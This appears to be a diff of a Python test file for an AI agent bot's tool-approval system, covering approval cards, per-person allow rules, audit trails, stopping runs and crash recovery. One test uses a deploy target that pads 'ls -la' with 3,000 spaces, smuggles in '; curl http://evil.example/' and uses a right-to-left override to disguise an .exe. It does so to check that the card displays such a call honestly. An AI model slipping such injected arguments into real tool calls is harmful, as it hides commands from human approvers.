@@ -4,6 +4,7 @@ steering and stop — with a scripted model, a recording surface and the real SQ
 from __future__ import annotations
 
 import asyncio
+import dataclasses
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -16,7 +17,7 @@ from bot.config import Settings
 from bot.conversation import Author, Inbound, ThreadKey
 from bot.core import Core
 from bot.llm.messages import AssistantMessage, ToolResult, UserMessage
-from bot.llm.model import ModelRequest, TextPiece
+from bot.llm.model import Model, ModelRequest, TextPiece
 from bot.sessions.model import RunState
 from bot.storage.sqlite import SqliteStore
 from bot.tools import ToolContext, ToolRegistry, tool
@@ -49,7 +50,17 @@ class World:
             ran.append(target)
             return f"deployed to {target}"
 
-        self.tools = [*builtin_tools(), deploy]
+        @tool(side_effects=True, approval="ask", executes=True)
+        async def shell(ctx: ToolContext, command: str) -> str:
+            """Run a command.
+
+            Args:
+                command: The command line.
+            """
+            ran.append(command)
+            return "exit 0"
+
+        self.tools = [*builtin_tools(), deploy, shell]
         self.core = self._core()
         self._n = 0
 
@@ -78,6 +89,12 @@ class World:
         await drive(self.clock, self.core.wait_idle())
         return note
 
+    async def click_id(self, card: int = -1, label: str = "Approve", who: Author = ALICE) -> str | None:
+        """Click a button the card had when it was posted (it may be gone since)."""
+        posted = self.surface.messages[self.cards()[card].id].first_buttons
+        button = next(b for b in posted if b.label == label)
+        return await drive(self.clock, self.core.on_action(button.action_id, who, self.surface))
+
     def cards(self, tool: str = "deploy") -> list[Any]:
         return [m for m in self.surface.live() if f"`{tool}`" in m.text]
 
@@ -93,6 +110,12 @@ async def world(tmp_path: Path) -> AsyncIterator[World]:
     await w.core.aclose()
 
 
+def use_model(world: World, model: Model) -> None:
+    """From now on the engine calls ``model`` (as if ``Core.create`` had been given it)."""
+    engine = world.core.engine
+    engine._deps = dataclasses.replace(engine._deps, model=model)
+
+
 def deploy_then(answer: str, target: str = "prod") -> list[Step]:
     return [step(call("deploy", {"target": target}, say="Deploying now.")), text(answer)]
 
@@ -102,7 +125,7 @@ async def test_a_call_that_needs_approval_pauses_the_run_with_a_card(world: Worl
     await world.say("ship it")
     [card] = world.cards()
     assert "Approval needed" in card.text and '"target": "prod"' in card.text
-    assert [b.label for b in card.buttons] == ["Approve", "Deny", "Always allow here"]
+    assert [b.label for b in card.buttons] == ["Approve", "Deny", "Always allow for Alice here"]
     assert world.ran == [] and len(world.model.requests) == 1
     session = await world.session()
     assert session.state is RunState.AWAITING_APPROVAL
@@ -270,12 +293,34 @@ async def test_several_calls_in_one_batch_each_wait_for_their_decision(world: Wo
     assert world.surface.texts()[-1] == "both handled"
 
 
-async def test_always_allow_here_stops_asking_in_this_channel(world: World) -> None:
+async def test_always_allow_here_stops_asking_this_person_in_this_channel(world: World) -> None:
     world.model.steps = [*deploy_then("first"), *deploy_then("second", "staging")]
     await world.say("ship it")
-    assert await world.click("Always allow here", ALICE) == "Approved."
+    assert await world.click("Always allow for Alice here", ALICE) == "Approved."
     await world.say("and staging")
     assert world.ran == ["prod", "staging"] and len(world.cards()) == 1
+    # Bob's request in the same channel is not covered: it gets its card
+    world.model.steps = deploy_then("third", "dev")
+    await world.say("dev too", author=BOB)
+    assert world.ran == ["prod", "staging"] and len(world.cards()) == 2
+    [rule] = await world.core.store.allow_rules("slack:")
+    assert rule.covers == {ALICE.id} and rule.created_by == ALICE.id and rule.tool == "deploy"
+    events = [(e.event, e.actor_id) for e in await world.core.store.audit_trail()]
+    assert events == [
+        ("requested", ALICE.id), ("approved", ALICE.id), ("rule created", ALICE.id),
+        ("allowed by rule", ALICE.id), ("requested", BOB.id),
+    ]
+
+
+async def test_a_forged_always_click_makes_no_rule_and_commands_are_not_offered_one(world: World) -> None:
+    world.model.steps = [step(call("shell", {"command": "true"})), text("ran")]
+    await world.say("run it")
+    card = world.cards("shell")[0]
+    assert [b.label for b in card.buttons] == ["Approve", "Deny"]
+    approval_id = actions_of(card)["Approve"].approval_id
+    assert await world.core.decide(approval_id, ALICE, Choice.ALWAYS, world.surface) == "Approved."
+    await drive(world.clock, world.core.wait_idle())
+    assert await world.core.store.allow_rules() == [] and world.ran == ["true"]
 
 
 async def test_a_message_while_waiting_is_kept_for_after_the_decision(world: World) -> None:
@@ -302,12 +347,14 @@ async def test_steering_a_running_turn_and_stopping_it(world: World) -> None:
             await release.wait()
             yield TextPiece(" ... never shown")
 
-    world.core.engine._model = SlowModel([])  # the engine's model, as Core.create would set it
+    use_model(world, SlowModel([]))
     task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "long job", "e1"), world.surface))
     await asyncio.wait_for(started.wait(), 5)
     await world.core.handle(Inbound(KEY, BOB, "stop please", "e2"), world.surface)
-    session = world.core.runner.active[KEY].session
+    session = world.core.supervisor.active[KEY].session
     assert [m.text for m in session.inbox] == ["stop please"]
+    use_model(world, world.model)  # the run after the Stop answers the message that waited
+    world.model.steps = [text("stopped, as Bob asked")]
     assert await world.core.stop(KEY, BOB)
     await run_until(world.clock, task.done)
     await task
@@ -315,14 +362,11 @@ async def test_steering_a_running_turn_and_stopping_it(world: World) -> None:
     partial = next(m for m in stored.messages if isinstance(m, AssistantMessage))
     assert partial.stopped and partial.text == "Thinking about it"
     assert "Stopped by Bob" in world.surface.visible_text()
-    assert not await world.core.stop(KEY, BOB)
-    # the next message starts normally; the steered message was kept and is read first
-    world.core.engine._model = world.model
-    world.model.steps = [text("fresh start")]
-    await world.say("next")
+    assert world.surface.texts()[-1] == "stopped, as Bob asked"
     texts = [m.text for m in world.model.requests[-1].messages if isinstance(m, UserMessage)]
-    assert texts[-2:] == ["stop please", "next"]
-    assert world.surface.texts()[-1] == "fresh start"
+    assert texts[-2:] == ["long job", "stop please"]
+    assert not await world.core.stop(KEY, BOB)
+    assert stored.inbox == []
 
 
 async def test_the_stop_button_on_the_running_reply_stops_it(world: World) -> None:
@@ -335,7 +379,7 @@ async def test_the_stop_button_on_the_running_reply_stops_it(world: World) -> No
             await asyncio.Event().wait()
             yield TextPiece("never")
 
-    world.core.engine._model = HangingModel([])
+    use_model(world, HangingModel([]))
     task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "go", "s1"), world.surface))
     await asyncio.wait_for(started.wait(), 5)
     await run_until(world.clock, lambda: bool(world.surface.live()) and bool(world.surface.live()[0].buttons))
@@ -350,3 +394,161 @@ async def test_the_stop_button_on_the_running_reply_stops_it(world: World) -> No
     assert "Stopped by Bob" in reply.text
     assert await world.core.on_action(stop.action_id, BOB, world.surface) == "That run has already ended."
     assert (await world.session()).state is RunState.IDLE
+
+
+async def test_a_call_answering_a_steered_message_is_that_persons_to_approve(world: World) -> None:
+    started, release = asyncio.Event(), asyncio.Event()
+
+    class GatedModel(ScriptedModel):
+        async def stream(self, request: ModelRequest) -> AsyncIterator[Any]:  # type: ignore[override]
+            if not self.requests:
+                started.set()
+                await release.wait()
+            async for piece in super().stream(request):
+                yield piece
+
+    todos = {"todos": [{"content": "look", "status": "in_progress"}]}
+    use_model(world, GatedModel(
+        [step(call("todo_write", todos)), *deploy_then("Deployed, Bob.")], max_calls=5
+    ))  # fmt: skip
+    task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface))
+    await asyncio.wait_for(started.wait(), 5)
+    await world.core.handle(Inbound(KEY, BOB, "and deploy it", "e2"), world.surface)
+    release.set()
+    await run_until(world.clock, task.done)
+    await task
+    [card] = world.cards()
+    assert "Asked by Bob" in card.text
+    assert "isn't yours" in (await world.click("Approve", ALICE) or "")
+    assert world.ran == []
+    await world.click("Approve", BOB)
+    assert world.ran == ["prod"]
+
+
+async def test_calls_with_invalid_or_over_limit_arguments_never_get_a_card(world: World) -> None:
+    world.model.steps = [
+        step(call("deploy", {"target": 42}, index=0), call("deploy", '{"target": "pr', index=1)),
+        text("I'll fix my call."),
+    ]
+    await world.say("ship it")
+    assert world.cards() == []
+    results = [m for m in (await world.session()).messages if isinstance(m, ToolResult)]
+    assert len(results) == 2 and all(r.is_error and "invalid arguments" in r.content for r in results)
+    assert world.ran == []
+
+
+async def test_the_card_shows_a_long_call_in_full_and_invisible_characters_escaped(world: World) -> None:
+    target = "ls -la" + " " * 3_000 + "; curl http://evil.example/\u202egnp.exe"
+    world.model.steps = deploy_then("ok", target=target)
+    await world.say("ship it")
+    posted = [m for m in world.surface.live() if m.id != world.surface.live()[0].id]
+    card = world.cards()[-1]
+    assert card.buttons and all(not m.buttons for m in posted if m.id != card.id)
+    shown = "".join(m.text for m in posted)
+    assert "\u202e" not in shown and "\\u202e" in shown
+    assert "curl http://evil.example/" in shown and shown.count(" ") >= 3_000
+    assert all(len(m.text) <= world.surface.limits.max_chars for m in posted)
+
+
+async def test_a_reset_after_an_approval_says_on_the_card_that_nothing_ran(world: World) -> None:
+    world.model.steps = deploy_then("never said")
+    await world.say("ship it")
+    card = world.cards()[0]
+    approval_id = actions_of(card)["Approve"].approval_id
+    outcome = await world.core.approvals.decide(approval_id, ALICE, Choice.APPROVE)  # the click's record
+    assert outcome.changed
+    await drive(world.clock, world.core.reset(KEY, world.surface))
+    await drive(world.clock, world.core.decisions.resume(KEY, world.surface))
+    assert world.ran == []
+    assert "nothing was run" in world.cards()[0].text
+
+
+async def test_a_reset_while_waiting_expires_the_card(world: World) -> None:
+    world.model.steps = deploy_then("never said")
+    await world.say("ship it")
+    await drive(world.clock, world.core.reset(KEY, world.surface))
+    text_now = world.cards()[0].text
+    assert "Expired" in text_now and "reset" in text_now and world.cards()[0].buttons == ()
+    assert "expired" in (await world.click_id(card=0) or "")
+
+
+def actions_of(card: Any) -> dict[str, Any]:
+    from bot import actions
+
+    return {b.label: actions.parse(b.action_id) for b in card.buttons}
+
+
+async def test_a_stop_button_its_run_left_behind_goes_when_clicked(world: World) -> None:
+    from bot import actions
+    from bot.present.surface import Button
+
+    stop = Button(actions.encode(actions.StopRun("ended-long-ago")), "Stop", "danger")
+    left = await world.surface.post("an answer cut off by a crash", (stop,))
+    note = await drive(world.clock, world.core.on_action(stop.action_id, BOB, world.surface, left))
+    assert note == "That run has already ended."
+    assert world.surface.messages[left].buttons == ()
+    assert world.surface.messages[left].text == "an answer cut off by a crash"
+
+
+async def test_the_card_of_an_approved_call_shows_what_it_did(world: World) -> None:
+    world.model.steps = [step(call("shell", {"command": "ls"})), text("listed")]
+    await world.say("list it")
+    await world.click("Approve", ALICE, tool="shell")
+    [card] = world.cards("shell")
+    assert "Approved" in card.text and "▶ Ran: exit 0" in card.text and card.buttons == ()
+
+
+def test_what_a_call_did_in_a_few_words() -> None:
+    from bot.engine.activity import preview, summarise
+
+    command = "a\nb\nc\nd\n[exit code 2]"
+    assert summarise(command, is_error=False) == "exit code 2, 4 lines of output"
+    assert preview(command) == "a\nb\nc"
+    assert summarise("(no output)\n[exit code 0]", is_error=False) == "exit code 0"
+    assert summarise("error: denied by Bob: the call was not run.", is_error=True).startswith("denied by Bob")
+    assert summarise("x" * 500, is_error=False).endswith("…")
+    assert summarise("", is_error=False) == "no output"
+
+
+async def test_the_pause_is_stored_before_its_card_shows(world: World) -> None:
+    """A restart right after a card shows finds the run paused: a click made before it (or
+    after it) resumes the run; its approved call is never taken for one cut off mid-run."""
+    world.model.steps = deploy_then("Deployed.")
+    seen: list[RunState] = []
+    post = world.surface.post
+
+    async def post_and_look(text: str, buttons: Any = ()) -> str:
+        if any(b.label == "Approve" for b in buttons):
+            seen.append((await world.core.store.load_session(KEY, world.clock.now())).state)
+        return await post(text, buttons)
+
+    world.surface.post = post_and_look  # type: ignore[method-assign]
+    await world.say("ship it")
+    assert seen == [RunState.AWAITING_APPROVAL]
+
+
+async def test_a_crash_between_the_card_and_storing_the_pause_keeps_the_request_open(world: World) -> None:
+    world.model.steps = deploy_then("Deployed after the restart.")
+    await world.say("ship it")
+    session = await world.session()
+    session.state = RunState.RUNNING  # as if killed before the run stored its pause
+    await world.core.store.save_state(session)
+    await world.restart()
+    await drive(world.clock, world.core.recover())
+    await drive(world.clock, world.core.wait_idle())
+    assert (await world.session()).state is RunState.AWAITING_APPROVAL
+    assert "Approval needed" in world.cards()[0].text and world.cards()[0].buttons
+    await world.click("Approve", ALICE)
+    assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed after the restart."
+
+
+async def test_a_decision_whose_run_a_restart_cut_off_before_it_resumed_goes_on(world: World) -> None:
+    world.model.steps = deploy_then("Deployed after all.")
+    await world.say("ship it")
+    approval = actions_of(world.cards()[0])["Approve"]
+    outcome = await world.core.approvals.decide(approval.approval_id, ALICE, Choice.APPROVE)
+    assert outcome.changed and world.ran == []  # recorded; then the process died before resuming
+    await world.restart()
+    await drive(world.clock, world.core.recover())
+    await drive(world.clock, world.core.wait_idle())
+    assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed after all."
